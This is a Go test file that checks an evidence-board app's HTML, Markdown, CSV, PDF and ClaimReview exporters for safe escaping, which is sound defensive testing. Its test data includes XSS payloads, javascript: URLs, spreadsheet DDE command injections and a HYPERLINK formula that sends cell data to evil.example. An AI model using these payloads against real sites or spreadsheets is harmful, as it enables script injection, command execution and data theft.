package report

import (
	"bytes"
	"encoding/json"
	"image"
	"image/color"
	"image/png"
	"strings"
	"testing"
	"time"

	"evidenceboard/app"
)

// testPNG is a small PNG picture, standing in for a board image.
func testPNG(tb testing.TB) []byte {
	tb.Helper()
	img := image.NewNRGBA(image.Rect(0, 0, 64, 40))
	for y := 0; y < 40; y++ {
		for x := 0; x < 64; x++ {
			img.Set(x, y, color.NRGBA{uint8(4 * x), uint8(6 * y), 160, 255})
		}
	}
	var buf bytes.Buffer
	if err := png.Encode(&buf, img); err != nil {
		tb.Fatal(err)
	}
	return buf.Bytes()
}

// hostileDoc is a small valid board with the given strings in every text
// field: titles, statements, quotes, names, notes, history and link notes,
// locations and urls. An empty title or required text is replaced, so
// that the board stays valid.
func hostileDoc(title, statement, quote, name, notes, url string) *app.Document {
	or := func(s, def string) string {
		if strings.TrimSpace(s) == "" {
			return def
		}
		return s
	}
	at := time.Date(2018, 10, 4, 9, 0, 0, 0, time.UTC)
	return &app.Document{
		Format: app.FormatName, Version: app.FormatVersion,
		Board: app.Board{
			Title: or(title, "Board"), Description: notes, Created: at, Updated: at,
			URL: url, Reviewer: &app.Reviewer{Name: name, URL: url},
			// A scale the rules refuse (labels may repeat or be empty,
			// values fall): reports show what they are given.
			Scale: []app.ScaleStep{{Label: title, Value: 3}, {Label: name, Value: -1}, {Label: statement, Value: 7}},
		},
		Sources: []app.Source{
			{ID: "s1", Title: or(title, "Source"), Publisher: name, Author: name, URL: url, Published: "2018-10-04", Retrieved: "2018-10-05T10:00:00Z", Notes: notes, Reliability: app.Reliability(name)},
			{ID: "s2", Title: or(statement, "Source two"), URL: "javascript:alert(1)", Notes: quote},
		},
		Parties: []app.Party{
			{ID: "p1", Name: or(name, "Party"), Kind: app.PartyPerson, Notes: notes, Reliability: app.Reliability(notes)},
			{ID: "p2", Name: or(title, "Party two"), Kind: app.PartyOrganisation, Notes: statement, Reliability: "B"},
		},
		Claims: []app.Claim{
			{ID: "c1", Statement: or(statement, "Claim"), Status: app.StatusDenied, Notes: notes, History: []app.StatusChange{
				{Status: app.StatusAlleged, At: at, Note: notes},
				{Status: app.StatusDenied, At: at.Add(time.Hour), Note: quote},
			}, Verdict: &app.Verdict{Label: name, Note: notes, At: at.Add(2 * time.Hour)}},
			{ID: "c2", Statement: or(quote, "Claim two"), Status: app.StatusAlleged},
			{ID: "c3", Statement: or(name, "Claim three"), Status: app.StatusUnconfirmed, History: []app.StatusChange{
				{Status: app.StatusUnconfirmed, At: at, Note: name},
			}, Verdict: &app.Verdict{Label: quote}},
		},
		Quotes: []app.Quote{
			{ID: "q1", Text: or(quote, "Quote"), Speaker: "p1", Source: "s1", Said: "2018-10-04", Location: notes, Notes: notes, Credibility: 9},
			{ID: "link-1", Text: or(statement, "Quote two"), Speaker: "p2", Source: "s2", Said: "2018-10-04T12:00:00Z", Location: name, Credibility: 6},
			{ID: "q3", Text: or(notes, "Quote three"), Source: "s1"},
		},
		Links: []app.Link{
			{From: "q1", To: "c1", Relation: app.RelDenies, Note: notes},
			{From: "link-1", To: "c1", Relation: app.RelSupports, Note: quote},
			{From: "link-1", To: "c2", Relation: app.RelContradicts},
			{From: "q1", To: "c2", Relation: app.RelMentions},
			{From: "c1", To: "p2", Relation: app.RelMadeBy},
			{From: "c1", To: "p1", Relation: app.RelAbout, Note: name},
			{From: "q1", To: "p2", Relation: app.RelMentions},
			{From: "p1", To: "p2", Relation: app.RelSpeaksFor, Note: notes},
		},
		Layout: []app.Position{{Item: "c1", X: 400.4, Y: 120.6}, {Item: "q1", X: -80, Y: 120}},
	}
}

// hostile are strings that have broken reports elsewhere.
var hostile = []string{
	"<script>alert(1)</script>",
	"</title><script>alert('x')</script>",
	"\"><img src=x onerror=alert(1)>",
	"javascript:alert(1)",
	"JaVaScRiPt:alert(document.cookie)",
	" javascript:alert(1)",
	"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	"+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	"# heading\n- item\n1. numbered\n> quote\n```\ncode\n```\n    indented\n===\n---",
	"[link](javascript:alert(1)) ![img](http://evil.example/x.png) <http://evil.example>",
	"*bold* _em_ `code` ~~strike~~ | a | b |\n|---|---|",
	"line one\r\nline two\rline three\n\n\nline four\\",
	"https://example.com/a b)c(d)<e>\"f'g\\h",
	"mailto:someone@example.com",
	"http://[::1]:80/?q=1&r=2#frag",
	"&lt;script&gt; &amp; &#60;script&#62; &#x3C;",
	"Ελληνικά, Русский, 中文, العربية, עברית, 🙂🚀, e\u0301, \u202Eevil\u202C, \u200B",
	"\x00\x01\x02\x1b[31mred\x7f\u0085\u2028\u2029",
	"\xff\xfe invalid \xc3\x28 utf-8",
	"{{.Title}} {{template \"x\"}} ${x} %s %v %!",
	"]]></x><!-- --> <![CDATA[ x ]]> <?xml?>",
	"\uFEFF\uFFFD\uFFFF",
	strings.Repeat("long ", 2000),
	strings.Repeat("中", 300),
	"",
	" ",
}

func TestHostileStrings(t *testing.T) {
	for i, s := range hostile {
		doc := hostileDoc(s, s, s, s, s, s)
		checkAll(t, doc, Options{Generated: goldenTime})
		if t.Failed() {
			t.Fatalf("hostile string %d: %q", i, s)
		}
	}
	// Every field at once, each a different string.
	n := len(hostile)
	for i := range hostile {
		doc := hostileDoc(hostile[i], hostile[(i+1)%n], hostile[(i+2)%n], hostile[(i+3)%n], hostile[(i+4)%n], hostile[(i+5)%n])
		checkAll(t, doc, Options{Generated: goldenTime, BoardImage: testPNG(t)})
		if t.Failed() {
			t.Fatalf("hostile strings from %d", i)
		}
	}
}

// TestEmptyAndBrokenBoards checks that a board with nothing on it, and one
// that breaks the format's rules (unknown references, unknown words, no
// dates), give reports too.
func TestEmptyAndBrokenBoards(t *testing.T) {
	empty := &app.Document{Format: app.FormatName, Version: app.FormatVersion, Board: app.Board{Title: "Empty"}}
	checkAll(t, empty, Options{})
	out, _ := render(t, "html", empty, Options{})
	if !bytes.Contains(out, []byte("This board has no claims yet.")) {
		t.Error("html: an empty board does not say it has no claims")
	}

	broken := hostileDoc("Broken", "s", "q", "n", "notes", "https://example.com/")
	broken.Claims[0].Status = "maybe"
	broken.Claims[0].History[0].At = time.Time{}
	broken.Quotes[0].Speaker = "nobody"
	broken.Quotes[1].Source = "nowhere"
	broken.Quotes[1].Said = "yesterday"
	broken.Sources[0].Published = "soon"
	broken.Parties[0].Kind = "robot"
	broken.Links = append(broken.Links, app.Link{From: "q1", To: "c1", Relation: "loves"}, app.Link{From: "ghost", To: "c1", Relation: app.RelSupports},
		app.Link{From: "q1", To: "c1", Relation: app.RelDenies})
	broken.Layout = append(broken.Layout, app.Position{Item: "ghost", X: 1e300, Y: -1e300})
	broken.Claims = append(broken.Claims, broken.Claims[0]) // a duplicate id
	for _, f := range Formats {
		var buf bytes.Buffer
		if err := f.Write(&buf, broken, Options{}); err != nil {
			t.Errorf("%s: %v", f.Name, err)
		}
	}
	out, _ = render(t, "html", broken, Options{})
	if !bytes.Contains(out, []byte("MAYBE")) {
		t.Error("html: an unknown status is not shown as written")
	}
}

// TestBoardImage checks that the board image is embedded by html and pdf,
// and that bytes that are not a PNG are left out with a warning.
func TestBoardImage(t *testing.T) {
	doc := sampleDoc(t)
	img := testPNG(t)
	out, warns := render(t, "html", doc, Options{BoardImage: img})
	if !bytes.Contains(out, []byte(`<img src="data:image/png;base64,`)) || len(warns) != 0 {
		t.Errorf("html: no embedded board image (warnings %q)", warns)
	}
	pdfWith, _ := render(t, "pdf", doc, Options{BoardImage: img, Generated: goldenTime})
	pdfWithout, _ := render(t, "pdf", doc, Options{Generated: goldenTime})
	if !bytes.Contains(pdfWith, []byte("/Subtype /Image")) || bytes.Contains(pdfWithout, []byte("/Subtype /Image")) {
		t.Error("pdf: the board image is not embedded only when given")
	}
	for _, name := range []string{"html", "pdf"} {
		out, warns := render(t, name, doc, Options{BoardImage: []byte("<svg onload=alert(1)>")})
		if len(warns) != 1 || bytes.Contains(out, []byte("data:image")) || bytes.Contains(out, []byte("/Subtype /Image")) {
			t.Errorf("%s: bytes that are not a PNG: warnings %q", name, warns)
		}
	}
}

// TestHostileOutput checks how some hostile strings come out.
func TestHostileOutput(t *testing.T) {
	doc := hostileDoc("<script>alert(1)</script>", "# not a heading\n- not a list\n1. not a list", "q", "=cmd", "notes", "javascript:alert(1)")
	htmlOut, _ := render(t, "html", doc, Options{})
	if !bytes.Contains(htmlOut, []byte("&lt;script&gt;alert(1)&lt;/script&gt;")) {
		t.Error("html: the title is not escaped as text")
	}
	if bytes.Contains(bytes.ToLower(htmlOut), []byte(`href="javascript`)) {
		t.Error("html: a javascript: address is a link")
	}
	if !bytes.Contains(htmlOut, []byte("javascript:alert(1)")) {
		t.Error("html: the javascript: address is not shown as text")
	}
	md, _ := render(t, "md", doc, Options{})
	for _, line := range strings.Split(string(md), "\n") {
		for _, bad := range []string{"- not", "1. not", "# not"} {
			if strings.HasPrefix(strings.TrimLeft(line, " "), bad) {
				t.Errorf("md: a line break in the board's text starts a block: %q", line)
			}
		}
	}
	if !bytes.Contains(md, []byte("&lt;script>alert(1)&lt;/script>")) {
		t.Errorf("md: the title is not escaped")
	}
	if bytes.Contains(md, []byte("](javascript")) {
		t.Error("md: a javascript: address is a link")
	}
	csvOut, _ := render(t, "csv", doc, Options{})
	if !bytes.Contains(csvOut, []byte(",'=cmd,")) {
		t.Errorf("csv: the speaker =cmd is not neutralised")
	}
	cr, warns := render(t, "claimreview", doc, Options{})
	if bytes.Contains(cr, []byte("javascript")) {
		t.Error("claimreview: a javascript: address is in the JSON-LD")
	}
	if len(warns) != 4 || !strings.Contains(warns[0], "reviewer address") || !strings.Contains(warns[1], "board's url") || !strings.Contains(warns[2], "1 claim has no dated history") || !strings.Contains(warns[3], "no verdict") {
		t.Errorf("claimreview: warnings %q, want four (reviewer url, board url, undated claim, no verdict)", warns)
	}
}

func TestClaimReviewWarnings(t *testing.T) {
	doc := sampleDoc(t)
	_, warns := render(t, "claimreview", doc, Options{})
	if len(warns) != 3 || !strings.Contains(warns[0], "no reviewer") || !strings.Contains(warns[1], "url") || !strings.Contains(warns[2], "1 claim has no verdict") {
		t.Errorf("warnings %q, want one for the reviewer, one for the url and one for the claim with no verdict", warns)
	}
	doc.Board.URL = "https://factcheck.example/big-hack"
	doc.Board.Reviewer = &app.Reviewer{Name: "Example Fact Check", URL: "https://factcheck.example/"}
	for i := range doc.Claims {
		if doc.Claims[i].Verdict == nil {
			doc.Claims[i].Verdict = &app.Verdict{Label: "Mostly false", At: time.Date(2018, 10, 6, 12, 0, 0, 0, time.UTC)}
		}
	}
	out, warns := render(t, "claimreview", doc, Options{})
	if len(warns) != 0 {
		t.Errorf("warnings %q, want none", warns)
	}
	for _, want := range []string{`"url": "https://factcheck.example/big-hack"`, `"name": "Example Fact Check"`, `"@type": "Organization"`} {
		if !bytes.Contains(out, []byte(want)) {
			t.Errorf("no %s in %s", want, out[:400])
		}
	}
	doc.Board.Reviewer.URL = ""
	if _, warns = render(t, "claimreview", doc, Options{}); len(warns) != 1 {
		t.Errorf("warnings %q, want one for the reviewer's url", warns)
	}
	doc.Claims[0].Verdict, doc.Claims[1].Verdict = nil, nil
	if _, warns = render(t, "claimreview", doc, Options{}); len(warns) != 2 || !strings.Contains(warns[1], "2 claims have no verdict") {
		t.Errorf("warnings %q, want one for the reviewer's url and one counting 2 claims with no verdict", warns)
	}
}

// TestClaimReviewRating checks that a review's rating is the claim's
// verdict on the board's scale, its own or the default one, and that a
// claim with no verdict gets no rating, whatever its status.
func TestClaimReviewRating(t *testing.T) {
	at := time.Date(2018, 10, 6, 12, 0, 0, 0, time.UTC)
	own := []app.ScaleStep{{Label: "Pants on fire", Value: -2}, {Label: "False", Value: 0}, {Label: "Half true", Value: 5}, {Label: "True", Value: 10}}
	for _, tt := range []struct {
		name    string
		scale   []app.ScaleStep
		verdict *app.Verdict
		want    string // the reviewRating as JSON, "" for none
		date    string // the review's datePublished
	}{
		{"default scale", nil, &app.Verdict{Label: "Unproven", Note: "why", At: at},
			`{"@type":"Rating","alternateName":"Unproven","ratingValue":3,"worstRating":1,"bestRating":5}`, "2018-10-06"},
		{"default scale, worst", nil, &app.Verdict{Label: "False", At: at},
			`{"@type":"Rating","alternateName":"False","ratingValue":1,"worstRating":1,"bestRating":5}`, "2018-10-06"},
		{"own scale, negative worst", own, &app.Verdict{Label: "Pants on fire", At: at},
			`{"@type":"Rating","alternateName":"Pants on fire","ratingValue":-2,"worstRating":-2,"bestRating":10}`, "2018-10-06"},
		{"own scale, zero value", own, &app.Verdict{Label: "False", At: at},
			`{"@type":"Rating","alternateName":"False","ratingValue":0,"worstRating":-2,"bestRating":10}`, "2018-10-06"},
		{"label off the scale", own, &app.Verdict{Label: "Unproven", At: at},
			`{"@type":"Rating","alternateName":"Unproven"}`, "2018-10-06"},
		{"no verdict", nil, nil, "", "2018-10-04"},
		{"no verdict, own scale", own, nil, "", "2018-10-04"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			doc := sampleDoc(t)
			doc.Board.Scale = tt.scale
			doc.Claims = doc.Claims[:1]
			doc.Claims[0].Verdict = tt.verdict
			out, warns := render(t, "claimreview", doc, Options{})
			var reviews []map[string]json.RawMessage
			if err := json.Unmarshal(out, &reviews); err != nil || len(reviews) != 1 {
				t.Fatalf("%v: %s", err, out)
			}
			var got bytes.Buffer
			if r := reviews[0]["reviewRating"]; r != nil {
				if err := json.Compact(&got, r); err != nil {
					t.Fatal(err)
				}
			}
			if got.String() != tt.want {
				t.Errorf("reviewRating = %s, want %s", got.String(), tt.want)
			}
			if d := string(reviews[0]["datePublished"]); d != `"`+tt.date+`"` {
				t.Errorf("datePublished = %s, want %q", d, tt.date)
			}
			noVerdict := false
			for _, w := range warns {
				noVerdict = noVerdict || strings.Contains(w, "1 claim has no verdict")
			}
			if noVerdict != (tt.verdict == nil) {
				t.Errorf("warnings %q: a warning for no verdict is %v, want %v", warns, noVerdict, tt.verdict == nil)
			}
		})
	}
}

func TestMarkdownText(t *testing.T) {
	for in, want := range map[string]string{
		"plain words":                        "plain words",
		"1. one\n- two\n  # three\n\n> four": `1\. one\` + "\n  " + `\- two\` + "\n  " + `\# three\` + "\n  " + `\> four`,
		"<b>&amp;</b>":                       "&lt;b>&amp;amp;&lt;/b>",
		"a\\b*c*_d_`e`":                      `a\\b\*c\*\_d\_\` + "`e\\`",
		"=== \n---":                          `\===\` + "\n  " + `\---`,
		// Left alone: what means nothing where it stands.
		"U.S. boards, c-pla-chips (2018). a > b; #1 + #2 = 3! AT&T @x {y}": "U.S. boards, c-pla-chips (2018). a > b; #1 + #2 = 3! AT&T @x {y}",
		"-2 to 10\n1.5 million\n#hashtag\n+1\n==x\n--x":                    "-2 to 10\\\n  1.5 million\\\n  #hashtag\\\n  +1\\\n  ==x\\\n  --x",
		// Escaped where it would be markup.
		"1) a\n2018.\n+ b\n-\n- - -\n####### x\n###### x": `1\) a\` + "\n  " + `2018\.\` + "\n  " + `\+ b\` + "\n  " + `\-\` + "\n  " + `\- - -\` + "\n  " + `####### x\` + "\n  " + `\###### x`,
		"ends with # and ##":                              `ends with # and \##`,
		"&copy; &#42; &#x2A; &x":                          "&amp;copy; &amp;#42; &amp;#x2A; &x",
		"a|b ~c~ $d$ [e]":                                 `a\|b \~c\~ \$d\$ \[e\]`,
	} {
		if got := mdText(in, "  "); got != want {
			t.Errorf("mdText(%q) = %q, want %q", in, got, want)
		}
	}
	if got := mdDest("https://x.example/a b(c)<d>\\e\"é"); got != "https://x.example/a%20b%28c%29%3Cd%3E%5Ce%22%C3%A9" {
		t.Errorf("mdDest = %q", got)
	}
}

func TestSafeURL(t *testing.T) {
	for u, ok := range map[string]bool{
		"https://example.com/x":     true,
		"HTTP://EXAMPLE.COM":        true,
		"mailto:desk@example.com":   true,
		"javascript:alert(1)":       false,
		" https://example.com":      false,
		"https://exa mple.com":      false,
		"https:///nohost":           false,
		"data:image/png;base64,AAA": false,
		"ftp://example.com":         false,
		"//example.com":             false,
		"https://example.com/\n":    false,
		"mailto:":                   false,
		"":                          false,
	} {
		if got := safeURL(u) != ""; got != ok {
			t.Errorf("safeURL(%q) = %v, want %v", u, got, ok)
		}
	}
}

func TestPDFString(t *testing.T) {
	g, err := pdfCover()
	if err != nil {
		t.Fatal(err)
	}
	for in, want := range map[string]string{
		"Plain, Ελληνικά, Русский — “quotes” é": "Plain, Ελληνικά, Русский — “quotes” é",
		"中文 and 中":             "[U+4E2D U+6587] and [U+4E2D]",
		"🙂":                    "[U+1F642]",
		"a\tb\r\nc\rd":         "a b\nc\nd",
		"\x01":                 "[U+0001]",
		strings.Repeat("中", 8): "[U+4E2D U+4E2D U+4E2D U+4E2D U+4E2D U+4E2D +2 more]",
		"שלום":                 "[U+05E9 U+05DC U+05D5 U+05DD]",
	} {
		if got, _ := pdfString(g, in); got != want {
			t.Errorf("pdfString(%q) = %q, want %q", in, got, want)
		}
	}
}

// FuzzExporters runs every exporter on a small valid board with fuzzed
// strings in every text field and checks that none panics, that the HTML
// has no script and no javascript: link and parses, that the CSV parses
// with the right rows and no formula cell, that the Markdown has no raw
// HTML, and that the JSON outputs are valid (see checkAll).
func FuzzExporters(f *testing.F) {
	f.Add("The Big Hack", "Apple found chips.", "we never found", "Apple", "notes", "https://example.com/a")
	f.Add("<script>alert(1)</script>", "# heading\n- item", "=1+1", "@cmd", "\r\n\t", "javascript:alert(1)")
	f.Add("Ελληνικά Русский", "中文 🙂", "قال", "עברית", "\x00\xff", "mailto:x@example.com")
	f.Add("[x](javascript:alert(1))", "<img src=x onerror=alert(1)>", "\"quoted\"", "-2+3", "+cmd", "https://x.example/a b)")
	f.Fuzz(func(t *testing.T, title, statement, quote, name, notes, url string) {
		doc := hostileDoc(title, statement, quote, name, notes, url)
		checkAll(t, doc, Options{Generated: goldenTime})
	})
}
